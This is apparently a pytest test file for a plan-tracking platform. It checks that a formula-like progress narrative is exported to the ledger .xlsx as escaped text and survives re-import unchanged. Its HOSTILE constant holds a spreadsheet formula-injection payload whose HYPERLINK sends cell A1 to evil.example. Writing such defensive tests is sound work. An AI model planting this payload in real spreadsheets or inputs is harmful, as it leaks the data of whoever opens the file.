"""A progress report whose text starts like a formula (=HYPERLINK(…)) leaves the platform as text
in the ledger .xlsx, and the unit's exported sheet uploaded again says exactly what it said."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
from fastapi.testclient import TestClient
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select
from sqlalchemy.orm import Session
from tests.conftest import api_token
from tests.plans.support import plan_of, scope_named, task_titled, unit_scope

from huanxin.kit.clock import today
from huanxin.orgs.scope import Scope
from huanxin.plans import repository as repo
from huanxin.plans import service
from huanxin.plans.models import Plan, Report, RoundItem, Task

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
INDUSTRY = "市经济和信息化局"
FIRST_MEASURE = "分类施策推进重点行业产线升级改造"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看进展")'
NARRATIVE_COLUMN = 11  # 进展情况
PCT_COLUMN = 9  # 完成百分比


def owed_item(db: Session, plan: Plan, task: Task, unit: Scope, title: str) -> RoundItem:
    office = scope_named(db, "ziyang-office")
    rnd = service.open_round(db, office, plan, title=title, period="2024年第3季度",
                             due_on=today() + dt.timedelta(days=10), task_ids=[task.id])
    return next(i for i in repo.round_items(db, rnd.id) if i.unit_id == unit.unit_id)


def reported(db: Session, plan: Plan) -> tuple[Task, Scope]:
    """The industry bureau has reported on its first measure with a formula-like narrative."""
    task = task_titled(db, plan, FIRST_MEASURE)
    unit = unit_scope(db, plan.city_code, INDUSTRY)
    item = owed_item(db, plan, task, unit, "2024年第三季度调度")
    service.submit_report(db, unit, item, service.ReportInput(progress_pct=40, task_status="in_progress",
                                                              narrative=HOSTILE, figures=[]))
    return task, unit


def sheet(content: bytes) -> Worksheet:
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert isinstance(ws, Worksheet)
    return ws


def row_of(ws: Worksheet, task_id: int) -> int:
    return next(r for r in range(3, ws.max_row + 1) if ws.cell(r, 2).value == task_id)


def test_formula_like_narrative_is_text_in_the_office_ledger_download(client: TestClient, db: Session) -> None:
    plan = plan_of(db, "ziyang-2024")
    task, _ = reported(db, plan)
    response = client.get(f"/api/v1/plans/{plan.id}/ledger.xlsx", headers=api_token(client, "ziyang-office"))
    assert response.status_code == 200 and response.headers["content-type"] == XLSX
    ws = sheet(response.content)
    cell = ws.cell(row_of(ws, task.id), NARRATIVE_COLUMN)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE  # Excel shows it, never runs it
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_exported_sheet_uploaded_again_keeps_the_narrative_exactly(client: TestClient, db: Session) -> None:
    plan = plan_of(db, "ziyang-2024")
    task, unit = reported(db, plan)
    owed_item(db, plan, task, unit, "2024年第四季度调度")  # the next round owes the task again
    token = api_token(client, unit.username)
    exported = client.get(f"/api/v1/plans/{plan.id}/ledger.xlsx", headers=token).content
    url = f"/api/v1/plans/{plan.id}/ledger/import"
    untouched = client.post(url, headers=token, files={"file": ("台账.xlsx", exported, XLSX)})
    assert untouched.status_code == 200, untouched.text
    assert untouched.json()["imported"] == 0  # our apostrophe is not read as a change
    book = openpyxl.load_workbook(io.BytesIO(exported))
    ws = book.active
    assert isinstance(ws, Worksheet)
    ws.cell(row_of(ws, task.id), PCT_COLUMN).value = 80  # only the percentage is changed
    buffer = io.BytesIO()
    book.save(buffer)
    response = client.post(url, headers=token, files={"file": ("台账.xlsx", buffer.getvalue(), XLSX)})
    assert response.status_code == 200, response.text
    assert response.json()["imported"] == 1
    newest = db.scalars(select(Report).where(Report.task_id == task.id).order_by(Report.id.desc())).first()
    assert newest is not None and (newest.progress_pct, newest.narrative) == (80, HOSTILE)
